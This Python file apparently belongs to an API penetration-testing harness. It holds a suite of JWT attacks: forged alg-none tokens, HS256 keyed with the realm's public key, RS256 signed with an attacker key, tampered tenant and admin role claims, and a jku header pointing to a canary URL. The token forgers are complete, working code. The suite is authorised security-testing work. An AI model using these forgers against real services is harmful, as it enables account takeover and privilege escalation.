"""Broken authentication with forged bearer tokens (API2:2023, OWASP A07:2021; ASVS 4.0.3 V3.5.3):
alg none, HS256 keyed with the realm's public key, an attacker's RS256 key, tampered claims, a `jku`
pointing to the attacker, the token in the query string, and no token at all."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from attacks.classify import Observation
from attacks.runner import Context, attack
from attacks.suites._common import Canary

SUITE = "jwt"
REFS = ["API2:2023", "OWASP-A07:2021", "ASVS-V3.5.3", "CWE-347"]


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_json(obj: Any) -> str:
    return b64url(json.dumps(obj, separators=(",", ":")).encode())


def decode_part(seg: str) -> dict[str, Any]:
    return json.loads(base64.urlsafe_b64decode(seg + "=" * (-len(seg) % 4)))


def forge_none(claims: dict[str, Any]) -> str:
    return f"{b64url_json({'alg': 'none', 'typ': 'JWT'})}.{b64url_json(claims)}."


def forge_hs256(claims: dict[str, Any], key: bytes, kid: str | None) -> str:
    header = {"alg": "HS256", "typ": "JWT", **({"kid": kid} if kid else {})}
    signing_input = f"{b64url_json(header)}.{b64url_json(claims)}".encode()
    return signing_input.decode() + "." + b64url(hmac.new(key, signing_input, hashlib.sha256).digest())


def forge_rs256(claims: dict[str, Any], key: rsa.RSAPrivateKey, header_extra: dict[str, Any]) -> str:
    header = {"alg": "RS256", "typ": "JWT", **header_extra}
    signing_input = f"{b64url_json(header)}.{b64url_json(claims)}".encode()
    sig = key.sign(signing_input, padding.PKCS1v15(), hashes.SHA256())
    return signing_input.decode() + "." + b64url(sig)


async def _real(ctx: Context, user: str = "alice") -> tuple[dict[str, Any], dict[str, Any], str]:
    token = await ctx.token(user)
    h, p, _ = token.split(".")
    return decode_part(h), decode_part(p), token


async def _public_pem(ctx: Context, kid: str) -> bytes:
    """The realm's published signing key as PEM: what an attacker uses as an HMAC secret."""
    certs = ctx.target.token_url.rsplit("/", 1)[0] + "/certs"
    r = await ctx.client.get(certs)
    r.raise_for_status()
    keys = [k for k in r.json().get("keys", []) if k.get("kid") == kid] or r.json().get("keys", [])
    jwk = keys[0]
    n = int.from_bytes(base64.urlsafe_b64decode(jwk["n"] + "=" * (-len(jwk["n"]) % 4)), "big")
    e = int.from_bytes(base64.urlsafe_b64decode(jwk["e"] + "=" * (-len(jwk["e"]) % 4)), "big")
    pub = rsa.RSAPublicNumbers(e, n).public_key()
    return pub.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


async def _with_token(ctx: Context, token: str) -> Observation:
    r, f = await ctx.request("GET", "/conversations", headers={"Authorization": f"Bearer {token}"})
    if r.status_code == 200:
        return Observation(effective=True, response=f, notes={"reason": "the forged token was accepted"})
    return Observation(response=f)


@attack("API2-JWT-NONE-01", "Unsigned token (alg: none) with alice's claims", REFS, "identity", suite=SUITE)
async def jwt_none(ctx: Context) -> Observation:
    _, claims, _ = await _real(ctx)
    return await _with_token(ctx, forge_none(claims))


@attack("API2-JWT-HS256-01", "Algorithm confusion: HS256 keyed with the realm's public key", REFS, "identity",
        suite=SUITE)
async def jwt_hs256(ctx: Context) -> Observation:
    header, claims, _ = await _real(ctx)
    pem = await _public_pem(ctx, header.get("kid", ""))
    return await _with_token(ctx, forge_hs256(claims, pem, header.get("kid")))


@attack("API2-JWT-FORGED-01", "RS256 signed with the attacker's key under the realm's kid", REFS, "identity",
        suite=SUITE)
async def jwt_forged(ctx: Context) -> Observation:
    header, claims, _ = await _real(ctx)
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return await _with_token(ctx, forge_rs256(claims, key, {"kid": header.get("kid", "")}))


@attack("API2-JWT-TAMPER-01", "Real token, payload edited to tenant globex and role tenant-admin", REFS,
        "identity", suite=SUITE)
async def jwt_tamper(ctx: Context) -> Observation:
    _, claims, token = await _real(ctx)
    h, _, sig = token.split(".")
    claims = dict(claims, tenant="globex", realm_access={"roles": ["user", "tenant-admin", "lab-admin"]})
    return await _with_token(ctx, f"{h}.{b64url_json(claims)}.{sig}")


@attack("API2-JWT-JKU-01", "Token whose jku header points to the attacker's JWKS (must not be fetched)",
        REFS + ["OWASP-A10:2021"], "identity", suite=SUITE)
async def jwt_jku(ctx: Context) -> Observation:
    _, claims, _ = await _real(ctx)
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    async with Canary() as canary:
        token = forge_rs256(claims, key, {"kid": "attacker-1", "jku": f"{canary.url}/jwks.json",
                                          "x5u": f"{canary.url}/cert.pem"})
        obs = await _with_token(ctx, token)
        await canary.settle(1.0)
    obs.notes["canary_hits"] = canary.hits
    if canary.hits:
        obs.effective = True
        obs.notes["reason"] = "the API fetched the attacker's key URL"
    return obs


@attack("API2-JWT-QUERY-01", "Real token in the query string instead of the Authorization header",
        REFS + ["ASVS-V3.1.1"], "identity", suite=SUITE)
async def jwt_query(ctx: Context) -> Observation:
    token = await ctx.token("alice")
    r, f = await ctx.request("GET", "/conversations", params={"access_token": token})
    if r.status_code == 200:
        return Observation(effective=True, response=f, notes={"reason": "a token in the URL was accepted"})
    return Observation(response=f)


@attack("API2-JWT-NOAUTH-01", "No token at all on the conversation list", REFS, "identity", suite=SUITE)
async def jwt_missing(ctx: Context) -> Observation:
    r, f = await ctx.request("GET", "/conversations")
    return Observation(effective=r.status_code == 200, response=f)
